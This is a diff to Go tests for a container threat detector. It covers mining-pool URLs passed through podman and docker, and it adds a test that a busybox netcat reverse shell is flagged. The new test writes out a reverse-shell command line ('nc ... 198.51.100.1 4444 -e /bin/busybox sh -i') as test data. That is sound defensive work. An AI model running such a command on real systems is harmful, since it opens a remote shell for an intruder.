@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -186,6 +187,17 @@ func TestWrappedContainerCLIIsNotTheAttacker(t *testing.T) {
 	if got := n("/usr/bin/sudo", "sh", "-c", script+"; podman ps"); got == 0 {
 		t.Error("sudo sh -c with podman later in the script: no finding")
 	}
+	// Mining-pool arguments too are the container's command.
+	pool := "stratum+tcp://pool.example:3333"
+	if got := n("/usr/bin/podman", "exec", "app", "sh", "-c", "sleep 1 -o "+pool); got != 0 {
+		t.Errorf("podman exec carrying a pool URL: %d findings", got)
+	}
+	if got := n("/usr/bin/timeout", "5", "docker", "run", "img", "miner", "-o", pool); got != 0 {
+		t.Errorf("timeout docker run carrying a pool URL: %d findings", got)
+	}
+	if got := n("/usr/bin/sh", "-c", "sleep 1 -o "+pool); got == 0 {
+		t.Error("a shell carrying a pool URL: no finding")
+	}
 }
 
 // The target of a /proc/PID/mem write is a number, as the other injection
@@ -274,5 +286,24 @@ func TestContainerEnginesOwnWork(t *testing.T) {
 		if !fired(ev) {
 			t.Errorf("%s %s by %s %v: no finding", ev.Kind, ev.File.Path, ev.Process.Exe, ev.Process.Args)
 		}
+	}
+}
+
+// A multi-call binary called by its own name runs the applet its first
+// argument names: `nc -e /bin/busybox sh -i` is a shell on a socket, and
+// `busybox nc` is netcat.
+func TestBusyboxByItsOwnName(t *testing.T) {
+	e := builtinEngine(t)
+	c := ctr(t)
+	bb := proc("/bin/busybox", "nc", "198.51.100.1", "4444", "-e", "/bin/busybox", "sh", "-i")
+	var types []string
+	collect := func(f *finding.Finding) { types = append(types, f.Type) }
+	e.Process(execOf(bb, c, &event.Exec{}), collect)
+	e.Process(&event.Event{Kind: event.KindDup, Process: bb, Container: c, Net: &event.Net{Family: "inet", RemoteAddr: "198.51.100.1", OldFD: 3}}, collect)
+	sh := bb
+	sh.Args = []string{"/bin/busybox", "sh", "-i"}
+	e.Process(execOf(sh, c, &event.Exec{}), collect)
+	if !slices.Contains(types, "Execution:Runtime/SuspiciousTool") || !slices.Contains(types, "Execution:Runtime/ReverseShell") {
+		t.Errorf("findings %v: want the netcat and the reverse shell", types)
 	}
 }
